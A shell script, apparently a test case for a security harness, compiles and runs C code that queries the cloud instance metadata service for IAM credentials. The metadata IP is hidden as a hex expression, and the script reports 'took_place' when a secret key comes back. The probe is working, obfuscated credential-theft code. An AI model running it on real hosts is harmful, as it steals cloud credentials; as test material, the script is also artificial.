#!/bin/sh
. /opt/case/case.sh

cat >/tmp/i.c <<'END'
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(80), .sin_addr.s_addr = htonl(0xa9fe0000u | 0xa9fe) };
    char q[] = "GET /latest/meta-data/iam/security-credentials/web-credentials HTTP/1.0\r\n\r\n", b[2048]; long n;
    struct iovec v = { q, sizeof q - 1 }; struct msghdr m = { .msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &v, .msg_iovlen = 1 };
    int s = socket(AF_INET, SOCK_STREAM, 0); if (sendmsg(s, &m, 0x20000000) < 0) { connect(s, (void *)&a, sizeof a); write(s, q, sizeof q - 1); }
    while ((n = read(s, b, sizeof b)) > 0) write(1, b, n);
    return 0;
}
END
tcc -run /tmp/i.c | grep -q SecretAccessKey
took_place
